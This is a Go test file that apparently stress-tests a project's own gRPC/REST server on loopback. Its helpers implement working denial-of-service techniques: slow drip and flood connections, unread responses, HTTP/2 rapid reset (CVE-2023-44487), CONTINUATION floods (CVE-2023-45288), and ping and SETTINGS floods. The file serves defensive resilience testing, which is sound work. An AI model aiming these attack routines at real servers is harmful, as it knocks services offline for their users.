package rpc_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
	"net/http"
	"os"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	"github.com/keytree-bch/keytree/rpc/admission"
	keytreev1 "github.com/keytree-bch/keytree/rpc/proto/keytree/v1"
	"github.com/keytree-bch/keytree/rpc/rpctest"
)

// What attackers do, each on a connection of his own until a context ends.

// dialFrom connects from the n-th address of the loopback interface.
func dialFrom(ctx context.Context, n int, address string) (net.Conn, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 1, byte(n>>8), byte(n))}}
	return d.DialContext(ctx, "tcp", address)
}

// exhaustive reports whether to attack with the limits of a real server, and many more
// attackers.
func exhaustive() bool { return os.Getenv("KEYTREE_EXHAUSTIVE") != "" }

// closedByPeer is closed when the other side has reset the connection, which a side that
// does not read finds out by writing.
func closedByPeer(ctx context.Context, c net.Conn) <-chan struct{} {
	closed := make(chan struct{})
	go func() {
		defer close(closed)
		for ctx.Err() == nil {
			if _, err := c.Write([]byte("\r\n")); err != nil {
				return
			}
			wait(ctx, max(20*time.Millisecond, pace()/2))
		}
	}()
	return closed
}

// pace is how long an attacker waits before he goes on. The attacked has the same
// processors.
func pace() time.Duration {
	if exhaustive() {
		return time.Second
	}
	return 5 * time.Millisecond
}

// wait waits, or until ctx ends.
func wait(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
	case <-ctx.Done():
	}
}

// drip sends a text, and then another byte by byte, slowly.
func drip(text, more string) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		_, err := io.WriteString(c, text)
		for i := 0; err == nil && ctx.Err() == nil; i++ {
			wait(ctx, pace())
			_, err = io.WriteString(c, more[i%len(more):i%len(more)+1])
		}
	}
}

// flood sends a text, and then another again and again. It reads nothing.
func flood(text, more string) func(context.Context, net.Conn) {
	again := []byte(more)
	return func(ctx context.Context, c net.Conn) {
		_, err := io.WriteString(c, text)
		for err == nil && ctx.Err() == nil {
			c.SetWriteDeadline(time.Now().Add(2 * time.Second))
			_, err = c.Write(again)
			wait(ctx, pace())
		}
	}
}

// say sends a text, and then waits for the connection's end. All attackers send the same bytes, not
// a copy each.
func say(text string) func(context.Context, net.Conn) {
	sent := []byte(text)
	return func(_ context.Context, c net.Conn) {
		c.Write(sent)
		io.Copy(io.Discard, c)
	}
}

// unread sends a text, and takes nothing of the answer.
func unread(text string) func(context.Context, net.Conn) {
	sent := []byte(text)
	return func(ctx context.Context, c net.Conn) {
		c.(*net.TCPConn).SetReadBuffer(4 << 10)
		c.Write(sent)
		<-closedByPeer(ctx, c)
	}
}

// asks sends a request over HTTP/1 again and again, each as soon as the one before was answered or
// refused.
func asks(text string) func(context.Context, net.Conn) {
	sent := []byte(text)
	return func(ctx context.Context, c net.Conn) {
		answers := bufio.NewReader(c)
		for ctx.Err() == nil {
			if _, err := c.Write(sent); err != nil {
				return
			}
			answer, err := http.ReadResponse(answers, nil)
			if err != nil {
				return
			}
			io.Copy(io.Discard, answer.Body)
		}
	}
}

// clientHello is the first message of a client that speaks TLS.
func clientHello() []byte {
	client, server := net.Pipe()
	defer server.Close()
	go func() {
		tls.Client(client, &tls.Config{InsecureSkipVerify: true}).Handshake() // which fails when it was recorded
		client.Close()
	}()
	header := make([]byte, 5) // of a record: its kind, its version, its length
	if _, err := io.ReadFull(server, header); err != nil {
		panic(err) // the test's own, also below
	}
	body := make([]byte, binary.BigEndian.Uint16(header[3:]))
	if _, err := io.ReadFull(server, body); err != nil {
		panic(err)
	}
	return append(header, body...)
}

// replay sends what was recorded, and goes as soon as it is answered: all work is the other side's.
func replay(recorded []byte) func(context.Context, net.Conn) {
	return func(_ context.Context, c net.Conn) {
		c.Write(recorded)
		c.Read(make([]byte, 1))
	}
}

// overTLS attacks inside TLS, from the end of the handshake on. sessions, if there are some, are
// resumed.
func overTLS(sessions tls.ClientSessionCache, attack func(context.Context, net.Conn), protocols ...string) func(context.Context, net.Conn) {
	config := &tls.Config{InsecureSkipVerify: true, NextProtos: protocols, ClientSessionCache: sessions}
	return func(ctx context.Context, c net.Conn) {
		secure := tls.Client(c, config)
		if secure.HandshakeContext(ctx) == nil {
			attack(ctx, secure)
		}
	}
}

// peer2 is a client that speaks HTTP/2 by frames, and reads nothing unless it is told to.
type peer2 struct {
	net.Conn
	*http2.Framer
	ctx     context.Context
	headers *hpack.Encoder
	block   bytes.Buffer
}

// overHTTP2 attacks over HTTP/2. The window is how many bytes of each answer may be sent.
func overHTTP2(window uint32, attack func(*peer2) error) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		c.SetWriteDeadline(time.Now().Add(20 * time.Second))
		p := &peer2{Conn: c, Framer: http2.NewFramer(c, c), ctx: ctx}
		p.headers = hpack.NewEncoder(&p.block)
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return
		}
		if p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}) != nil || p.WriteSettingsAck() != nil {
			return
		}
		if attack(p) == nil {
			io.Copy(io.Discard, c)
		}
	}
}

// begin sends the header of a gRPC call.
func (p *peer2) begin(stream uint32, method string, more ...[2]string) error {
	return p.header(stream, false, slices.Concat([][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", "/keytree.v1.IdentityService/" + method}, {":authority", "localhost"},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	}, more)...)
}

// get sends a request of REST.
func (p *peer2) get(stream uint32, path string) error {
	return p.header(stream, true, [][2]string{{":method", "GET"}, {":scheme", "https"}, {":path", path}, {":authority", "localhost"}}...)
}

// header sends the header of a request.
func (p *peer2) header(stream uint32, end bool, fields ...[2]string) error {
	p.block.Reset()
	for _, field := range fields {
		p.headers.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	return p.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: p.block.Bytes(), EndHeaders: true, EndStream: end})
}

// send sends a message, in pieces of a frame. It has to fit into the window that a server
// gives at first, or be read.
func (p *peer2) send(stream uint32, message []byte, end bool) error {
	for len(message) > 0 {
		n := min(len(message), 16<<10)
		if err := p.WriteData(stream, end && n == len(message), message[:n]); err != nil {
			return err
		}
		message = message[n:]
	}
	return nil
}

// framed is a message as gRPC sends it.
func framed(m proto.Message) []byte {
	text, err := proto.Marshal(m)
	if err != nil {
		panic(err) // the test's own
	}
	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(text))), text...)
}

// deepBatch asks for as many addresses as fit into a window: their answer has some 7 MB.
func deepBatch() *keytreev1.BatchResolveRequest {
	_, short, _ := strings.Cut(rpctest.Address("deep120"), ":")
	m := &keytreev1.BatchResolveRequest{}
	for range 1200 {
		m.Addresses = append(m.Addresses, short)
	}
	return m
}

// unanswered makes calls and reads no answer.
func unanswered(method string, request proto.Message, times int) func(*peer2) error {
	message := framed(request)
	return func(p *peer2) error {
		for i := range times {
			stream := uint32(2*i + 1)
			if err := p.begin(stream, method); err != nil {
				return err
			}
			if err := p.send(stream, message, true); err != nil {
				return err
			}
		}
		return nil
	}
}

// stalledMessages begins so many messages, each as long as a server allows.
func stalledMessages(streams int) func(*peer2) error {
	start := append(binary.BigEndian.AppendUint32([]byte{0}, admission.MaxRequest), make([]byte, 60<<10)...)
	return func(p *peer2) error {
		for i := range streams {
			stream := uint32(2*i + 1)
			if err := p.begin(stream, "BatchResolve"); err != nil {
				return err
			}
			if err := p.send(stream, start, false); err != nil {
				return err
			}
		}
		return nil
	}
}

// floodOf is how many frames a flood has: ten times as many calls as a server has taken back on a
// connection.
const floodOf = 2000

// recorded attacks over HTTP/2 by what an attack would send, which all attackers have made once.
// They send as much at once as the system takes.
func recorded(attack func(*peer2) error) func(context.Context, net.Conn) {
	var sent bytes.Buffer
	p := &peer2{Framer: http2.NewFramer(&sent, nil), ctx: context.Background()}
	p.headers = hpack.NewEncoder(&p.block)
	if err := attack(p); err != nil {
		panic(err) // the test's own
	}
	return overHTTP2(1<<16-1, func(p *peer2) error {
		_, err := p.Conn.Write(sent.Bytes())
		return err
	})
}

// rapidReset begins calls of gRPC, or requests of REST for a path, and takes them back at once
// (CVE-2023-44487).
func rapidReset(path string) func(*peer2) error {
	return func(p *peer2) error {
		for i := range floodOf {
			stream := uint32(2*i + 1)
			begin := func() error { return p.begin(stream, "ResolveAddress") }
			if path != "" {
				begin = func() error { return p.get(stream, path) }
			}
			if err := begin(); err != nil {
				return err
			}
			if err := p.WriteRSTStream(stream, http2.ErrCodeCancel); err != nil {
				return err
			}
		}
		return nil
	}
}

func pings(p *peer2) error {
	for range floodOf {
		if err := p.WritePing(false, [8]byte{}); err != nil {
			return err
		}
	}
	return nil
}

func settings(p *peer2) error {
	for range floodOf {
		if err := p.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 14}); err != nil {
			return err
		}
	}
	return nil
}

// continuations sends the header of a request that has no end (CVE-2023-45288).
func continuations(p *peer2) error {
	if err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}}); err != nil {
		return err
	}
	var name bytes.Buffer
	field := hpack.NewEncoder(&name)
	for range floodOf {
		name.Reset()
		field.WriteField(hpack.HeaderField{Name: "x-long", Value: strings.Repeat("x", 1000), Sensitive: true})
		if err := p.WriteContinuation(1, false, name.Bytes()); err != nil {
			return err
		}
	}
	return nil
}

// unreadPaths asks for paths of REST, and takes nothing of the answers.
func unreadPaths(path string, times int) func(*peer2) error {
	return func(p *peer2) error {
		for i := range times {
			if err := p.get(uint32(2*i+1), path); err != nil {
				return err
			}
		}
		return nil
	}
}
